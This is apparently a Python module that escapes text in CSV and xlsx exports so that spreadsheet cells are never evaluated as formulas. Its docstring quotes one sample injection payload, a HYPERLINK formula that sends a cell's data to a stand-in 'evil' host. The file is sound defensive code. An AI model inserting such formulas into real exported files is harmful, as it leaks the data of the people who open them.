"""Text written to spreadsheets stays text: the one home of the suite's export escaping.

A name such as ``=HYPERLINK("http://evil?d="&A1)`` must never become a live formula in the
file a manager opens. CSV cells starting with a formula trigger get a leading apostrophe, as
OWASP advises ("CSV Injection"); xlsx cells are written as string cells, which a spreadsheet
never evaluates.
"""

# First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# xlsxwriter options: strings are never turned into formulas, links or numbers.
XLSX_OPTIONS = {
    "in_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}


def csv_safe(value):
    """``value`` as a CSV cell: text starting with a formula trigger is prefixed with ``'``;
    numbers, dates and other values are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_safe_row(row):
    return [csv_safe(value) for value in row]


def xlsx_write(sheet, row, col, value, cell_format=None):
    """Write one xlsx cell: text as a string cell (never a formula), numbers as numbers."""
    if value is None or value is False:
        return sheet.write_blank(row, col, None, cell_format)
    if isinstance(value, bool | int | float):
        return sheet.write_number(row, col, value, cell_format)
    return sheet.write_string(row, col, str(value), cell_format)
